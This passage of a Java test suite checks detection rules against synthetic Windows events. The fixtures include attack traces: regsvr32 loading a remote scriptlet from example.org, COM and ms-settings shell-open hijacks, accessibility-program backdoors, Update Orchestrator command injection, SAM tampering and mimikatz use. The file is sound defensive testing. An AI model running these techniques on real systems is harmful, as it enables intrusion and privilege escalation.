                List.of(process(CMD, "/c notepad.exe", "ParentImage", SVCHOST, "ParentCommandLine",
                                "C:\\Windows\\system32\\svchost.exe -k netsvcs"),
                        process(SYS32 + "regsvr32.exe", "/u /s /i:https://example.org/calc.sct scrobj.dll", "ParentImage",
                                SVCHOST, "ParentCommandLine", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS")),
                List.of(process(CMD, "cmd.exe /c notepad.exe", "ParentImage", SVCHOST, "ParentCommandLine",
                                "C:\\Windows\\system32\\svchost.exe -k netsvcs"),
                        process(CMD, "/c notepad.exe", "ParentImage", SVCHOST, "ParentCommandLine",
                                "C:\\Windows\\system32\\svchost.exe -k DcomLaunch")));
        rule("dotlink_reg_user_com_hijack.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", "C:\\Users\\eve\\Downloads\\com-hijack.exe", "TargetObject",
                        SYSMON_REG + "_CLASSES\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32\\(Default)",
                        "Details", "C:\\ProgramData\\demo.dll")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", "C:\\Users\\eve\\Downloads\\setup.exe", "TargetObject",
                                SYSMON_REG + "_CLASSES\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32\\(Default)",
                                "Details", SYS32 + "MMDevApi.dll"),
                        sysmon(13, "EventType", "SetValue", "Image", SYS32 + "msiexec.exe", "TargetObject",
                                "HKLM\\SOFTWARE\\Classes\\CLSID\\{11111111-2222-3333-4444-555555555555}\\InprocServer32\\(Default)",
                                "Details", "C:\\ProgramData\\Vendor\\ext.dll")));
        rule("dotlink_reg_sam_account_f_value.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image",
                        "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe", "TargetObject",
                        "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F5\\F", "Details", "Binary Data")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", SYS32 + "lsass.exe", "TargetObject",
                                "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F4\\ForcePasswordReset", "Details", "Binary Data"),
                        sysmon(13, "EventType", "SetValue", "Image", "C:\\Users\\eve\\tool.exe", "TargetObject",
                                "HKLM\\SOFTWARE\\Vendor\\Users\\000001F5\\F")));
        rule("dotlink_proc_accessibility_program_child.yml",
                List.of(process(SYS32 + "whoami.exe", "whoami", "ParentImage", SYS32 + "osk.exe", "User", "NT AUTHORITY\\SYSTEM"),
                        process(CMD, "cmd.exe", "ParentImage", SYS32 + "sethc.exe")),
                List.of(process(SYS32 + "osk.exe", "\"C:\\Windows\\System32\\osk.exe\"", "ParentImage", SYS32 + "Utilman.exe"),
                        process(SYS32 + "notepad.exe", "notepad.exe", "ParentImage", SYS32 + "osk.exe")));
        rule("dotlink_reg_ieak_pending_gpo.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", "C:\\Windows\\regedit.exe", "TargetObject",
                        SYSMON_REG + "\\Software\\Microsoft\\IEAK\\GroupPolicy\\PendingGPOs\\Path1", "Details",
                        "c:\\programdata\\gpo.inf")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", "C:\\Windows\\Explorer.EXE", "TargetObject",
                        SYSMON_REG + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.reg\\OpenWithList\\b",
                        "Details", "regedit.exe")));
        rule("dotlink_proc_smss_unexpected_child.yml",
                List.of(process(CMD, "c:\\windows\\system32\\cmd.exe", "ParentImage", SYS32 + "smss.exe", "User",
                        "NT AUTHORITY\\SYSTEM")),
                List.of(process(SYS32 + "autochk.exe", "autochk *", "ParentImage", SYS32 + "smss.exe"),
                        process(SYS32 + "csrss.exe", "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows",
                                "ParentImage", SYS32 + "smss.exe")));
        rule("dotlink_reg_sam_local_account_or_admins.yml",
                List.of(sysmon(12, "EventType", "CreateKey", "Image", SYS32 + "lsass.exe", "TargetObject",
                                "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\support"),
                        sysmon(13, "EventType", "SetValue", "Image", SYS32 + "lsass.exe", "TargetObject",
                                "HKLM\\SAM\\SAM\\Domains\\Builtin\\Aliases\\00000220\\C", "Details", "Binary Data")),
                List.of(sysmon(12, "EventType", "DeleteKey", "Image", SYS32 + "lsass.exe", "TargetObject",
                                "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\support"),
                        sysmon(13, "EventType", "SetValue", "Image", SYS32 + "lsass.exe", "TargetObject",
                                "HKLM\\SAM\\SAM\\Domains\\Builtin\\Aliases\\00000221\\C", "Details", "Binary Data")));

        // privilege escalation
        rule("dotlink_sec_netonly_logon.yml",
                List.of(security(4624, "SubjectUserName", "IEUser", "TargetUserName", "IEUser", "LogonType", "9",
                        "LogonProcessName", "seclogo", "ProcessName", SVCHOST, "TargetOutboundUserName", "l",
                        "TargetOutboundDomainName", "o")),
                List.of(security(4624, "TargetUserName", "IEUser", "LogonType", "9", "LogonProcessName", "Advapi  ",
                                "ProcessName", SYS32 + "lsass.exe"),
                        security(4624, "TargetUserName", "IEUser", "LogonType", "2", "LogonProcessName", "seclogo",
                                "ProcessName", SVCHOST)));
        rule("dotlink_proc_wusa_extract_windows.yml",
                List.of(process(SYS32 + "wusa.exe", "\"C:\\Windows\\System32\\wusa.exe\" c:\\users\\ieuser\\appdata\\local\\temp"
                                + "\\suspicious.cab /extract:C:\\Windows\\system32\\sysprep /quiet"),
                        process(SYS32 + "wusa.exe", "\"C:\\Windows\\system32\\wusa.exe\"  C:\\Users\\IEUser\\AppData\\Local\\Temp"
                                + "\\uf3huvkczgk.tmp /extract:C:\\Windows /quiet")),
                List.of(process(SYS32 + "wusa.exe", "wusa.exe C:\\Updates\\windows10.0-kb5005565-x64.msu /quiet /norestart"),
                        process(SYS32 + "wusa.exe", "wusa.exe C:\\Updates\\kb.msu /extract:C:\\Users\\eve\\kb")));
        rule("dotlink_reg_volatile_environment_systemroot.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", "c:\\python27\\python.exe", "TargetObject",
                        "HKU\\S-1-5-21-3583694148-1414552638-2922671848-1000\\Volatile Environment\\SYSTEMROOT",
                        "Details", "c:\\users\\ieuser\\appdata\\local\\temp")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", "C:\\Windows\\System32\\userinit.exe", "TargetObject",
                        "HKU\\S-1-5-21-3583694148-1414552638-2922671848-1000\\Volatile Environment\\USERDOMAIN",
                        "Details", "CORP")));
        rule("dotlink_image_unsigned_system_folder_dll.yml",
                List.of(sysmon(7, "Image", SYS32 + "sysprep\\sysprep.exe", "ImageLoaded", SYS32 + "sysprep\\CRYPTBASE.dll",
                                "Signed", "false", "SignatureStatus", "Unavailable"),
                        sysmon(7, "Image", SYS32 + "cliconfg.exe", "ImageLoaded", SYS32 + "NTWDBLIB.dll", "Signed", "false")),
                List.of(sysmon(7, "Image", SYS32 + "sysprep\\sysprep.exe", "ImageLoaded", SYS32 + "cryptbase.dll",
                                "Signed", "true", "SignatureStatus", "Valid"),
                        sysmon(7, "Image", "C:\\ProgramData\\tool\\app.exe", "ImageLoaded", SYS32 + "vendor.dll",
                                "Signed", "false")));
        rule("dotlink_reg_update_orchestrator_command.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Orchestrator\\UScheduler\\51999\\cmdLine",
                                "Details", "c:\\windows\\system32\\cmd.exe"),
                        sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Orchestrator\\UScheduler\\51999\\startArg",
                                "Details", "/c \"whoami > c:\\x.txt\"")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Orchestrator\\UScheduler\\51999\\cmdLine",
                                "Details", "%systemroot%\\system32\\MoUsoCoreWorker.exe"),
                        sysmon(13, "EventType", "SetValue", "Image", SVCHOST, "TargetObject",
                                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Orchestrator\\UScheduler\\51999\\queuedTime",
                                "Details", "QWORD (0x01d6667a-0xac806dc2)")));
        rule("dotlink_sec_loopback_smb_custom_pipe.yml",
                List.of(security(5145, "SubjectUserName", "WS042$", "IpAddress", "::1", "ShareName", "\\\\*\\IPC$",
                        "RelativeTargetName", "pipey", "AccessList", ALL_ACCESS_PIPE)),
                List.of(security(5145, "SubjectUserName", "WS042$", "IpAddress", "::1", "ShareName", "\\\\*\\IPC$",
                                "RelativeTargetName", "samr", "AccessList", ALL_ACCESS_PIPE),
                        security(5145, "SubjectUserName", "eve", "IpAddress", "10.0.2.5", "ShareName", "\\\\*\\IPC$",
                                "RelativeTargetName", "pipey", "AccessList", ALL_ACCESS_PIPE)));
        rule("dotlink_sec_web_worker_explicit_credentials.yml",
                List.of(security(4648, "SubjectUserName", "svc01", "TargetUserName", "IEUser", "TargetServerName", "localhost",
                        "TargetInfo", "localhost", "ProcessName", SYS32 + "inetsrv\\w3wp.exe")),
                List.of(security(4648, "SubjectUserName", "svc01", "TargetUserName", "svc_web", "TargetServerName", "fs01",
                                "ProcessName", SYS32 + "inetsrv\\w3wp.exe"),
                        security(4648, "SubjectUserName", "PC01$", "TargetServerName", "localhost",
                                "ProcessName", SYS32 + "winlogon.exe")));
        rule("dotlink_reg_user_shell_open_hijack.yml",
                List.of(sysmon(13, "EventType", "SetValue", "Image", SYS32 + "reg.exe", "TargetObject",
                                SYSMON_REG + "_Classes\\Launcher.SystemSettings\\shell\\open\\command\\(Default)",
                                "Details", "c:\\Windows\\System32\\cmd.exe"),
                        sysmon(13, "EventType", "SetValue", "Image", POWERSHELL, "TargetObject",
                                SYSMON_REG + "\\Software\\Classes\\ms-settings\\shell\\open\\command\\DelegateExecute",
                                "Details", "(Empty)")),
                List.of(sysmon(13, "EventType", "SetValue", "Image", SYS32 + "reg.exe", "TargetObject",
                                SYSMON_REG + "_Classes\\txtfile\\shell\\open\\command\\(Default)", "Details", "notepad++.exe"),
                        sysmon(13, "EventType", "SetValue", "Image", SYS32 + "msiexec.exe", "TargetObject",
                                "HKLM\\SOFTWARE\\Classes\\ms-settings\\shell\\open\\command\\(Default)", "Details", "x")));
        rule("dotlink_file_mandatory_profile_hive.yml",
                List.of(sysmon(11, "Image", "C:\\Windows\\Explorer.EXE", "TargetFilename",
                        "C:\\Users\\user01\\Desktop\\Debug\\ntuser.man")),
                List.of(sysmon(11, "Image", "C:\\Windows\\Explorer.EXE", "TargetFilename",
                                "C:\\Users\\user01\\Desktop\\Debug\\ntuser.man.LOG1"),
                        sysmon(11, "Image", "System", "TargetFilename", "C:\\Users\\kiosk\\ntuser.man")));
        rule("dotlink_pipe_psexesvc_squatting.yml",
                List.of(sysmon(17, "EventType", "CreatePipe", "PipeName", "\\PSEXESVC", "Image",
                        "C:\\Users\\Public\\psexecprivesc.exe")),
                List.of(sysmon(17, "EventType", "CreatePipe", "PipeName", "\\PSEXESVC", "Image", "C:\\Windows\\PSEXESVC.exe"),
                        sysmon(18, "EventType", "ConnectPipe", "PipeName", "\\PSEXESVC", "Image",
                                "C:\\Users\\Public\\psexecprivesc.exe")));
        rule("dotlink_pipe_eventlog_remote.yml",
                List.of(sysmon(18, "EventType", "ConnectPipe", "PipeName", "\\eventlog", "Image", "System")),
                List.of(sysmon(17, "EventType", "CreatePipe", "PipeName", "\\eventlog", "Image", SVCHOST),
                        sysmon(18, "EventType", "ConnectPipe", "PipeName", "\\eventlog", "Image", SYS32 + "mmc.exe"),
                        sysmon(18, "EventType", "ConnectPipe", "PipeName", "\\srvsvc", "Image", "System")));
        rule("dotlink_sec_anonymous_computer_password_change.yml",
                List.of(security(4742, "TargetUserName", "DC01$", "SubjectUserSid", "S-1-5-7", "SubjectUserName",
                        "ANONYMOUS LOGON", "SubjectDomainName", "NT AUTHORITY", "PasswordLastSet", "9/15/2020 12:31:04 PM")),
                List.of(security(4742, "TargetUserName", "DC01$", "SubjectUserName", "DC01$", "PasswordLastSet",
                                "9/15/2020 12:31:04 PM"),
                        security(4742, "TargetUserName", "DC01$", "SubjectUserName", "ANONYMOUS LOGON", "PasswordLastSet", "-",
                                "ServicePrincipalNames", "HOST/DC01")));
        rule("dotlink_sec_computer_password_reset_by_user.yml",
                List.of(security(4724, "TargetUserName", "DC01$", "SubjectUserName", "Administrator")),
                List.of(security(4724, "TargetUserName", "helpdesk", "SubjectUserName", "Administrator"),
                        security(4724, "TargetUserName", "WS042$", "SubjectUserName", "WS042$")));
        rule("dotlink_sec_debug_privilege_uninstalled_program.yml",
                List.of(security(4703, "SubjectUserName", "IEUser", "ProcessName", "C:\\Users\\IEUser\\Desktop\\x64\\mimikatz.exe",
                                "EnabledPrivilegeList", "SeDebugPrivilege"),
                        security(4703, "ProcessName",
                                "\\Device\\Mup\\VBoxSvr\\Users\\bouss\\Downloads\\MalSeclogon.exe", "EnabledPrivilegeList",
                                "SeDebugPrivilege")),
                List.of(security(4703, "ProcessName", SVCHOST, "EnabledPrivilegeList", "SeDebugPrivilege"),
                        security(4703, "ProcessName", "C:\\Users\\IEUser\\Desktop\\tool.exe", "EnabledPrivilegeList",
                                "SeShutdownPrivilege")));
    }

    /** A task definition as event 4698 carries it, reduced to the parts the rules read. */
    private static String task(String userId, String command, String arguments) {
        return "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n"
                + "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
                + "  <Triggers>\n    <CalendarTrigger>\n      <StartBoundary>2021-03-03T02:50:00</StartBoundary>\n"
                + "    </CalendarTrigger>\n  </Triggers>\n"
                + "  <Principals>\n    <Principal id=\"Author\">\n      <UserId>" + userId + "</UserId>\n"
                + "      <RunLevel>HighestAvailable</RunLevel>\n    </Principal>\n  </Principals>\n"
                + "  <Actions Context=\"Author\">\n    <Exec>\n      <Command>" + command + "</Command>\n"
                + "      <Arguments>" + arguments + "</Arguments>\n    </Exec>\n  </Actions>\n</Task>";
    }

    private static final RuleCompiler COMPILER = new RuleCompiler(LogsourceMapping.builtIn(), Map.of());

    @Test
    void everyBuiltinRuleHasCasesAndEveryCaseARule() throws IOException {
        assertEquals(new TreeSet<>(BuiltinRulesTest.detectionRules().keySet()), new TreeSet<>(CASES.keySet()));
    }

    @TestFactory
    Stream<DynamicTest> eachRuleMatchesItsEventsAndNoneOfItsNearMisses() throws IOException {
        List<DynamicTest> tests = new ArrayList<>();
        for (Map.Entry<String, SigmaRule> r : BuiltinRulesTest.detectionRules().entrySet()) {
            SigmaRule rule = r.getValue();
            Case c = CASES.get(r.getKey());
            if (c == null) {
                continue; // reported by everyBuiltinRuleHasCasesAndEveryCaseARule
            }
            tests.add(DynamicTest.dynamicTest(r.getKey(), () -> {
                CompiledRule compiled = COMPILER.compile(rule);
                assertFalse(c.matching().isEmpty(), "at least one matching event");
                assertFalse(c.nearMisses().isEmpty(), "at least one near miss");
                for (Event e : c.matching()) {
                    assertTrue(compiled.matches(e), rule.title() + " should match " + e.toMap());
                }
                for (Event e : c.nearMisses()) {
                    assertFalse(compiled.matches(e), rule.title() + " should not match " + e.toMap());
                }
            }));
        }
        return tests.stream();
    }
}
